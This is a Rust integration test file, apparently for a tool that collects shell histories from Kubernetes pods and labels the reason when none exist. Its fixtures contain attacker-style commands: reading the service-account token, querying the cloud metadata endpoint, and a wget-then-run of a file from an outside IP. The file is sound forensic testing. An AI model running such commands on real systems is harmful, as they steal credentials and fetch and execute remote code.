//! Shell histories, and the reason where there is none.

use serde_json::Value;

use super::harness::{ADMIN, text};

fn commands(pod: &str, file: &str) -> Vec<Value> {
    let mut rows = ADMIN.rows_of("commandhistory_CL", &[("pod_name", pod), ("history_file", file)]);
    rows.sort_by_key(|row| row["line_no"].as_i64());
    rows
}

fn texts(rows: &[Value]) -> Vec<String> {
    rows.iter().map(|row| text(row, "command")).collect()
}

fn states(pod: &str, container: &str) -> Vec<String> {
    let rows = ADMIN.rows_of("commandhistory_CL", &[("pod_name", pod), ("container_name", container)]);
    rows.iter().map(|row| text(row, "history_state")).collect()
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn bash_history_has_the_times_it_was_written_with() {
    let rows = commands("web-0", "/root/.bash_history");
    assert_eq!(
        texts(&rows),
        [
            "id",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "curl -s http://169.254.169.254/metadata/instance",
            "kubectl auth can-i --list",
        ]
    );
    let times: Vec<_> = rows.iter().map(|row| text(row, "EventTime")).collect();
    assert_eq!(times[0], "2026-01-01T00:00:00Z");
    assert_eq!(times[3], "2026-01-01T00:00:20Z");
    assert_eq!(text(&rows[0], "user_name"), "root");
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn every_user_and_shell_counts() {
    let deployers = commands("web-0", "/home/deploy/.bash_history");
    assert_eq!(text(&deployers[0], "command"), "ls");
    assert_eq!(text(&deployers[0], "user_name"), "deploy");
    assert_eq!(text(&deployers[1], "command_b64"), "cHJpbnRmIGNhZuk=", "printf caf and a byte that is not UTF-8");
    let zsh = commands("web-0", "/home/app/.zsh_history");
    assert_eq!(texts(&zsh), ["env", "echo one \n two"]);
    assert_eq!(zsh[0]["elapsed_seconds"], 3);
    let ash = commands("cache", "/root/.ash_history");
    assert_eq!(texts(&ash), ["wget http://198.51.100.7/x", "sh x", "rm x"]);
    assert!(ash[0]["EventTime"].is_null(), "ash writes no times");
}

#[test]
#[ignore = "needs the cluster of tests/cluster/run"]
fn absence_has_a_reason() {
    assert_eq!(states("distroless", "service"), ["no-shell"]);
    assert_eq!(states("rootless", "rootless"), ["unreadable"]);
    assert_eq!(states("web-0", "dbg"), ["none"]);
    assert_eq!(states("web-0", "proxy"), ["none"]);
    for (pod, container) in [("finished", "finished"), ("pending", "app"), ("no-image", "app"), ("web-0", "migrate")] {
        assert_eq!(states(pod, container), ["not-running"], "{pod}/{container}");
    }
}
